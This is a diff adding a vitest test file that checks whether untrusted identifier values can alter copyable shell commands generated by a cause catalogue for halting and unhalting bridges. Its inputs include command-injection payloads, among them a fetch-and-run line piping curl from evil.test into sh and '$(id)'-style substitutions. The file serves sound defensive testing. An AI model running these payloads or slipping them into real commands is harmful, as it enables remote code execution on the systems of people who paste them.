@@ -1,0 +1,31 @@
+import { expect, test } from 'vitest'
+import { commandsOf } from '../../../domain/catalogue/cause.ts'
+import { causeCatalogue } from '../../../domain/catalogue/cause-catalogue.ts'
+
+test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a b', 'a\nb', ''])(
+  'nothing of a stranger’s id gets into a command that people copy: %s',
+  (id) => {
+    for (const code of Object.keys(causeCatalogue) as (keyof typeof causeCatalogue)[]) {
+      const names = [
+        'scope',
+        'chain',
+        'node',
+        'lane',
+        'address',
+        'other lane',
+        'stream',
+        'number',
+        'id',
+        'workflow',
+        'kind',
+        'party',
+        'nonce',
+        'receiver',
+      ]
+      const values = Object.fromEntries(names.filter((name) => name !== 'scope').map((name) => [name, id]))
+      expect(commandsOf(code, values)).toEqual(commandsOf(code, {}))
+    }
+    expect(commandsOf('HALTED', { scope: `--bridge ${id}; id` })).toEqual(commandsOf('HALTED', {}))
+    expect(commandsOf('HALTED', { scope: '--source ethereum --target bsc' })[1]).toContain('unhalt --source ethereum --target bsc --reason')
+  },
+)
